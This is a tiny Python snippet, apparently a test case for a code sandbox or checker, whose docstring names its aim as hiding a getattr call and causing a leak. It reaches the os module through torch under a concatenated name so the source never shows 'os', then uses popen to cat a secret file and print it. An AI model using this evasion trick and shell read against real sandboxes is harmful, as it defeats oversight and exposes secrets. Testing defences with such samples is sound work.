"""
goal: hand getattr to C code, which calls it with names that the source does not show
effect: leak
"""

import torch

[system] = map(getattr, [torch], ["o" + "s"])
print(system.popen("cat " + SECRET_FILE).read())
